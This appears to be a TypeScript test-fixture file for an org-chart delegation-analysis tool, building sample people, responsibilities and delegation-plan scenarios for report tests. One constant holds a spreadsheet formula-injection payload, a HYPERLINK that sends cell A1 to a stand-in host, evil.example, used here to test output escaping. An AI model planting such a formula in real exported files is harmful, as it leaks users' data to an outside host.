import { SnapshotIndex, analyzeSnapshot, scoreScenario, snapshotFromRecords, trackPlan } from '@rolemap/analysis';
import type { AnalysisResult } from '@rolemap/analysis';
import {
  DEFAULT_POLICY,
  type PeopleRecord,
  type ResponsibilityRecord,
  type SnapshotData,
  type ValueLevel,
} from '@rolemap/domain';
import { DEFAULT_DEMO_AS_OF, generateDemoOrg } from '@rolemap/demo-data';
import { PassThrough, type Writable } from 'node:stream';
import type { DelegationPlanInputs, PlanScenarioInput } from '../model/build-delegation-plan';
import type { ReportOptions, ReportReviewInput } from '../model/report-types';

export interface ReportInputs {
  snapshot: SnapshotData;
  analysis: AnalysisResult;
  policy: typeof DEFAULT_POLICY;
  options: ReportOptions;
}

/** The demo organization, imported and analysed the way the app does it. */
export function demoInputs(reviews?: ReadonlyMap<string, ReportReviewInput>): ReportInputs {
  const org = generateDemoOrg();
  return inputsFrom(org.people, org.responsibilities, org.name, reviews, DEFAULT_DEMO_AS_OF);
}

export function inputsFrom(
  people: readonly PeopleRecord[],
  responsibilities: readonly ResponsibilityRecord[],
  organizationName = 'Test Org',
  reviews?: ReadonlyMap<string, ReportReviewInput>,
  asOf = '2026-11-01',
): ReportInputs {
  let next = 0;
  const snapshot = snapshotFromRecords(people, responsibilities, {
    organizationId: 'org-test',
    snapshotId: 'snap-test',
    asOf,
    newId: () => `id-${++next}`,
  });
  const analysis = analyzeSnapshot(snapshot, DEFAULT_POLICY);
  return { snapshot, analysis, policy: DEFAULT_POLICY, options: { organizationName, snapshotVersion: 3, asOf, reviews } };
}

let row = 1;
/** A people record with readable defaults; `vacant` posts get no name. */
export function person(
  employeeId: string,
  title: string,
  managerId: string | null,
  extra: Partial<PeopleRecord> = {},
): PeopleRecord {
  return {
    rowNumber: ++row,
    employeeId,
    name: extra.vacant ? '' : `Person ${employeeId}`,
    title,
    managerId,
    department: 'Engineering',
    location: 'Berlin',
    email: null,
    hireDate: '2018-01-01',
    roleStartDate: '2020-01-01',
    previousTitle: null,
    lastPromotionDate: null,
    performanceRating: 3,
    fte: 1,
    vacant: false,
    ...extra,
  };
}

export function duty(
  employeeId: string,
  responsibility: string,
  valueLevel: ValueLevel,
  sharePct: number,
  since: string | null = '2021-01-01',
): ResponsibilityRecord {
  return { rowNumber: ++row, employeeId, responsibility, description: null, valueLevel, sharePct, since };
}

/** Collects what a writer streams, as a real file or HTTP response would receive it. */
export function collect(): { out: Writable; done: Promise<Buffer> } {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise<Buffer>((resolve, reject) => {
    out.on('end', () => resolve(Buffer.concat(chunks)));
    out.on('error', reject);
  });
  return { out, done };
}

export const INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")';
export const AWKWARD_TITLE = 'Review "big" deals, weekly\nand report back';
export const PIPE_TITLE = 'Own the *core* API | v2';

/**
 * A small team whose file carries hostile and awkward text: a formula injection, a title with
 * quotes, a comma and a line break, Markdown syntax, plus a vacant post, a role without
 * responsibilities and a director who holds hands-on work (delegation gaps).
 */
export function awkwardInputs(): ReportInputs {
  return inputsFrom(
    [
      person('D1', 'Director of Sales', null, { name: 'Dana Reyes', department: 'Sales', lastPromotionDate: '2025-06-01' }),
      person('M1', 'Sales Manager', 'D1', { name: 'Zoë Łukasiewicz', department: 'Sales' }),
      person('S1', 'Account Executive', 'M1', { name: 'Sam Okafor', department: 'Sales' }),
      person('S2', 'Account Executive', 'M1', { name: 'Ana Silva', department: 'Sales' }),
      person('V1', 'Account Executive', 'M1', { vacant: true, department: 'Sales' }),
      person('E1', 'Sales Engineer', 'D1', { name: 'Eli Novak', department: 'Sales' }),
    ],
    [
      duty('D1', 'Set the sales strategy', 'LEADERSHIP', 20, '2025-07-01'),
      duty('D1', INJECTION, 'IMPLEMENTATION', 30, '2023-01-01'),
      duty('D1', AWKWARD_TITLE, 'IMPLEMENTATION', 20, '2022-05-01'),
      duty('D1', 'Report the forecast to the board', 'COMMUNICATION', 30, '2025-07-01'),
      duty('M1', 'Coach account executives', 'LEADERSHIP', 20),
      duty('M1', 'Plan territories', 'UNIFICATION', 40),
      duty('M1', PIPE_TITLE, 'IMPLEMENTATION', 30),
      duty('S1', 'Run customer demos', 'IMPLEMENTATION', 50),
      duty('S2', 'Negotiate renewals', 'IMPLEMENTATION', 40),
    ],
    'Acme, "Sales" & Co',
  );
}

/**
 * A team with gaps in its data: a manager and a technician without responsibilities, and a
 * director whose hands-on work goes to the technician already doing it, who hands a task of
 * their own to a colleague with the time (a chain); the director's second task finds nobody.
 */
export function sparseInputs(): ReportInputs {
  const ops = { department: 'Operations' };
  return inputsFrom(
    [
      person('D1', 'Director of Operations', null, { name: 'Dee Director', ...ops }),
      person('M1', 'Operations Manager', 'D1', { name: 'Mo Manager', ...ops }),
      person('A1', 'Technician', 'M1', { name: 'Alex Tech', ...ops }),
      person('A2', 'Technician', 'M1', { name: 'Sam Tech', ...ops }),
      person('A3', 'Technician', 'M1', { name: 'Nia Nodata', ...ops }),
    ],
    [
      duty('D1', 'Set the operations strategy', 'LEADERSHIP', 60),
      duty('D1', 'Calibrate the gripper sensors', 'IMPLEMENTATION', 20),
      duty('D1', 'Fix broken robots', 'IMPLEMENTATION', 20),
      duty('A1', 'Calibrate the gripper arm sensors', 'IMPLEMENTATION', 80),
      duty('A1', 'Log daily checks', 'IMPLEMENTATION', 20),
      duty('A2', 'Clean the robots', 'IMPLEMENTATION', 80),
    ],
  );
}

const PLAN_PEOPLE = () => [
  person('A1', 'Chief Executive Officer', null, { name: 'Ada Chief', department: 'Board' }),
  person('D1', 'Director of Engineering', 'A1', { name: 'Dana Reyes' }),
  person('E1', 'Software Engineer', 'D1', { name: 'Ann Busy' }),
  person('E2', 'Senior Engineer', 'D1', { name: 'Sam Lee' }),
];
const PLAN_WORK = () => [
  duty('A1', 'Set the company strategy', 'LEADERSHIP', 100),
  duty('D1', 'Code reviews', 'IMPLEMENTATION', 20),
  duty('D1', 'Set engineering strategy', 'LEADERSHIP', 40),
  duty('D1', 'Quarterly planning', 'UNIFICATION', 40),
  duty('E1', 'Feature work', 'IMPLEMENTATION', 60),
  duty('E2', 'Review code for the API', 'IMPLEMENTATION', 65),
];

/**
 * A delegation plan over a small engineering team: the director hands the code reviews to the
 * senior engineer (the gap disappears) and half of the planning to the other engineer. With
 * `approved`, it is tracked against a later chart where only the code reviews moved.
 */
export function planInputs(options: { approved?: boolean; withinLeader?: boolean } = {}): DelegationPlanInputs {
  const base = inputsFrom(PLAN_PEOPLE(), PLAN_WORK(), 'Scenario Co');
  const index = new SnapshotIndex(base.snapshot);
  const scenario: PlanScenarioInput = {
    id: 'scenario-1',
    name: 'Delegation plan, v3',
    kind: 'DELEGATION_PLAN',
    status: options.approved ? 'APPROVED' : 'PROPOSED',
    notes: options.approved ? 'APPROVED: Do it this quarter' : null,
    ownerName: 'Dana',
    scopeEmployeeId: 'D1',
    version: 4,
    decidedBy: options.approved ? 'Harriet HR' : null,
    decidedAt: options.approved ? '2026-11-05T09:30:00.000Z' : null,
    edits: [
      { kind: 'MOVE_RESPONSIBILITY', from: 'D1', responsibility: 'Code reviews', to: 'E2', sharePct: null },
      { kind: 'MOVE_RESPONSIBILITY', from: 'D1', responsibility: 'Quarterly planning', to: 'E1', sharePct: 10 },
    ],
  };
  const within = options.withinLeader ? 'D1' : null;
  const score = scoreScenario({ index, result: base.analysis, diff: null }, scenario.edits, base.policy, {
    scopeRoot: scenario.scopeEmployeeId,
    within,
    keepGoing: true,
  });
  let tracking: DelegationPlanInputs['tracking'] = null;
  if (options.approved) {
    const laterWork = PLAN_WORK()
      .filter((row) => !(row.employeeId === 'D1' && row.responsibility === 'Code reviews'))
      .concat(duty('E2', 'Code reviews', 'IMPLEMENTATION', 20));
    const later = inputsFrom(PLAN_PEOPLE(), laterWork, 'Scenario Co', undefined, '2026-12-01');
    tracking = {
      snapshotVersion: 4,
      asOf: '2026-12-01',
      edits: trackPlan(index, new SnapshotIndex(later.snapshot), scenario.edits),
    };
  }
  return {
    organizationName: 'Scenario Co',
    snapshotVersion: base.options.snapshotVersion,
    asOf: base.options.asOf,
    scenario,
    base: { index },
    score,
    within,
    tracking,
  };
}
